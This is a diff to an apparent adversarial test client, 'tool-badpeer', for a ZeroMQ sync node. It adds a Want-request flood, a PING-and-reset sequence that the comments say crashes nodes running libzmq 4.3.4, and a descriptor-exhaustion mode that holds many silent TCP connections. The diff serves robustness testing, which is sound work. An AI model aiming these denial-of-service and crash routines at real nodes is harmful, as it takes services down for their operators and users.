@@ -33,12 +33,29 @@
  *             node must never process (its "invalid" count must not move)
  *   huge      one frame of SYNC_MSG_MAX + 1 bytes (over ZMQ_MAXMSGSIZE)
  *   ban       25 undecodable messages (over SYNC_BAD_MAX)
+ *   wantflood S  for S seconds, about 800 Wants a second (under the node's
+ *             message rate) for every author a preceding recon found, each
+ *             asking for the whole chain, and never reads an answer; then
+ *             drops the connection at once (linger 0). With this act the
+ *             socket reads little: RCVHWM 1, a 4 KiB kernel receive buffer
+ *   pingreset makes the node busy (an Events of 16,384 forged envelopes to
+ *             verify), fills its receive queue for this connection with
+ *             Hellos while this socket sends ZMTP PINGs every millisecond,
+ *             then resets the connection (exit with unread data): libzmq
+ *             4.3.4 answers a PING after the reset and aborts the node
+ *   conns N   opens N plain TCP connections to ENDPOINT (no ZMTP) and holds
+ *             them until the next act; prints how many connected
  *   sleep     waits 500 ms
  * Exit status: 0, 2 usage, 3 no answer to recon, 1 other failure. */
+#include <arpa/inet.h>
+#include <netinet/in.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
 #include <time.h>
+#include <unistd.h>
 #include <sodium.h>
 #include <zmq.h>
 
@@ -59,6 +76,8 @@ static unsigned long long rx_bytes;
 static int wait_ms = 5000;
 static unsigned long long tx_msgs, tx_bytes;
 static int in_multi;	/* the last frame sent had ZMQ_SNDMORE */
+static uint8_t (*learnt)[KEY_PK_BYTES];	/* authors the last recon found */
+static size_t nlearnt;
 
 static void die(const char *what)
 {
@@ -180,6 +199,11 @@ static int act_recon(void)
 		}
 	}
 	d = recon_diffs(r, &nd);
+	free(learnt);
+	if ((learnt = calloc(nd ? nd : 1, KEY_PK_BYTES)) == NULL)
+		die("out of memory");
+	for (nlearnt = 0; nlearnt < nd; nlearnt++)
+		memcpy(learnt[nlearnt], d[nlearnt].key, KEY_PK_BYTES);
 	if (nd > 0) {
 		/* Fetch what the node holds: the data an outsider must never get. */
 		Wiec__SyncMsg m = WIEC__SYNC_MSG__INIT, *in;
@@ -481,6 +505,125 @@ static void act_flood(void)
 	    (long)((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000));
 }
 
+/* Wants for whole chains at about 800 a second, never reading an answer:
+ * the node must bound what it queues for us (spec/sync.md, "Limits"). */
+static void act_wantflood(int secs)
+{
+	size_t k = nlearnt < SYNC_WANT_MAX ? nlearnt : SYNC_WANT_MAX, sent = 0;
+	Wiec__WantRange *rs = calloc(k ? k : 1, sizeof *rs), **rp = calloc(k ? k : 1, sizeof *rp);
+	struct timespec gap = { 0, 1250000 }, t0, t;
+	int zero = 0;
+
+	if (rs == NULL || rp == NULL)
+		die("out of memory");
+	if (k == 0)
+		die("wantflood: no authors (run recon first)");
+	for (size_t i = 0; i < k; i++) {
+		wiec__want_range__init(&rs[i]);
+		rs[i].author.data = learnt[i];
+		rs[i].author.len = KEY_PK_BYTES;
+		rs[i].from = 1;
+		rp[i] = &rs[i];
+	}
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	do {
+		Wiec__SyncMsg m = WIEC__SYNC_MSG__INIT;
+		Wiec__Want w = WIEC__WANT__INIT;
+
+		w.n_ranges = k;
+		w.ranges = rp;
+		w.id = 1000 + sent;
+		m.msg_case = WIEC__SYNC_MSG__MSG_WANT;
+		m.want = &w;
+		send_msg(&m);
+		sent++;
+		nanosleep(&gap, NULL);
+		clock_gettime(CLOCK_MONOTONIC, &t);
+	} while (t.tv_sec - t0.tv_sec < secs);
+	zmq_setsockopt(sock, ZMQ_LINGER, &zero, sizeof zero);
+	free(rs);
+	free(rp);
+	printf("wantflood: sent %zu Wants in %d s without reading\n", sent, secs);
+}
+
+static void act_pingreset(void)
+{
+	uint8_t *env, **many;
+	size_t len, *lens;
+	Wiec__SyncMsg *reply;
+
+	send_hello();
+	if ((reply = recv_msg()) == NULL)
+		die("pingreset: the node did not answer a hello");
+	wiec__sync_msg__free_unpacked(reply, NULL);
+	forged_event(&env, &len);
+	many = calloc(SYNC_EVENTS_MAX, sizeof *many);
+	lens = calloc(SYNC_EVENTS_MAX, sizeof *lens);
+	if (many == NULL || lens == NULL)
+		die("out of memory");
+	for (size_t i = 0; i < SYNC_EVENTS_MAX; i++) {
+		many[i] = env;
+		lens[i] = len;
+	}
+	send_events(many, lens, SYNC_EVENTS_MAX, 0, 0);
+	for (int i = 0; i < 8; i++)
+		send_hello();
+	zmq_poll(NULL, 0, 100);
+	printf("pingreset: node busy, queue full, resetting\n");
+	fflush(stdout);
+	_exit(0);	/* no close: the kernel resets a socket with unread data */
+}
+
+/* Plain TCP connections that never speak: each costs the node a
+ * descriptor until it drops them. */
+static int *conns_fd;
+static size_t conns_n;
+
+static void conns_close(void)
+{
+	for (size_t i = 0; i < conns_n; i++)
+		close(conns_fd[i]);
+	free(conns_fd);
+	conns_fd = NULL;
+	conns_n = 0;
+}
+
+static void act_conns(const char *endpoint, long n)
+{
+	char host[256];
+	int port;
+	struct sockaddr_in sa;
+	struct rlimit rl;
+
+	if (sscanf(endpoint, "tcp://%255[^:]:%d", host, &port) != 2)
+		die("conns: ENDPOINT must be tcp://IPV4:PORT");
+	/* Our own descriptors must not be the limit. */
+	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
+		rl.rlim_cur = rl.rlim_max;
+		setrlimit(RLIMIT_NOFILE, &rl);
+	}
+	conns_close();
+	if ((conns_fd = calloc((size_t)n, sizeof *conns_fd)) == NULL)
+		die("out of memory");
+	memset(&sa, 0, sizeof sa);
+	sa.sin_family = AF_INET;
+	sa.sin_port = htons((uint16_t)port);
+	if (inet_pton(AF_INET, host, &sa.sin_addr) != 1)
+		die("conns: not an IPv4 address");
+	for (long i = 0; i < n; i++) {
+		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+		if (fd < 0)
+			break;
+		if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
+			close(fd);
+			continue;
+		}
+		conns_fd[conns_n++] = fd;
+	}
+	printf("conns: %zu of %ld connections open\n", conns_n, n);
+}
+
 /* ---- set-up ---- */
 
 static void server_key_of(const char *dir, const char *endpoint, uint8_t *sk_out)
@@ -554,7 +697,7 @@ static int usage(void)
 	fprintf(stderr, "usage: tool-badpeer pubkey DIR\n"
 	    "       tool-badpeer fill DIR N AUTHORS\n"
 	    "       tool-badpeer [--server-key HEX] [--wait MS] [--linger MS] DIR ENDPOINT "
-	    "recon|garbage|multi|huge|ban|flood|sleep...\n");
+	    "recon|garbage|multi|huge|ban|flood|wantflood S|conns N|sleep...\n");
 	return 2;
 }
 
@@ -563,7 +706,7 @@ int main(int argc, char **argv)
 	char path[4096];
 	key_x25519_t kx;
 	uint8_t server[KEY_X_BYTES];
-	int have_server = 0, a = 1, rc = 0, linger = 1000;
+	int have_server = 0, a = 1, rc = 0, linger = 1000, rcvhwm = 1000, rcvbuf = -1, hbivl = 0;
 	int64_t max = -1;
 	void *ctx;
 
@@ -597,6 +740,12 @@ int main(int argc, char **argv)
 	}
 	if (argc - a < 3)
 		return usage();
+	for (int i = a + 2; i < argc; i++)
+		if (strcmp(argv[i], "wantflood") == 0 || strcmp(argv[i], "pingreset") == 0) {
+			rcvhwm = 1;
+
+			hbivl = strcmp(argv[i], "pingreset") == 0 ? 1 : 100;
+		}
 	snprintf(path, sizeof path, "%s/identity.key", argv[a]);
 	if (key_load(&kp, path) != 0)
 		die("cannot load DIR/identity.key");
@@ -612,6 +761,9 @@ int main(int argc, char **argv)
 	    zmq_setsockopt(sock, ZMQ_CURVE_SECRETKEY, kx.sk, KEY_X_BYTES) != 0 ||
 	    zmq_setsockopt(sock, ZMQ_LINGER, &linger, sizeof linger) != 0 ||
 	    zmq_setsockopt(sock, ZMQ_MAXMSGSIZE, &max, sizeof max) != 0 ||
+	    zmq_setsockopt(sock, ZMQ_RCVHWM, &rcvhwm, sizeof rcvhwm) != 0 ||
+	    zmq_setsockopt(sock, ZMQ_RCVBUF, &rcvbuf, sizeof rcvbuf) != 0 ||
+	    zmq_setsockopt(sock, ZMQ_HEARTBEAT_IVL, &hbivl, sizeof hbivl) != 0 ||
 	    zmq_connect(sock, argv[a + 1]) != 0)
 		die(zmq_strerror(zmq_errno()));
 	for (int i = a + 2; i < argc && rc == 0; i++) {
@@ -627,12 +779,19 @@ int main(int argc, char **argv)
 			act_ban();
 		else if (strcmp(argv[i], "flood") == 0)
 			act_flood();
+		else if (strcmp(argv[i], "wantflood") == 0 && i + 1 < argc)
+			act_wantflood(atoi(argv[++i]));
+		else if (strcmp(argv[i], "pingreset") == 0)
+			act_pingreset();
+		else if (strcmp(argv[i], "conns") == 0 && i + 1 < argc)
+			act_conns(argv[a + 1], atol(argv[++i]));
 		else if (strcmp(argv[i], "sleep") == 0)
 			zmq_poll(NULL, 0, 500);
 		else
 			return usage();
 		fflush(stdout);
 	}
+	conns_close();
 	zmq_close(sock);	/* lingers (--linger) for queued frames */
 	zmq_ctx_term(ctx);
 	printf("sent %llu messages, %llu bytes\n", tx_msgs, tx_bytes);
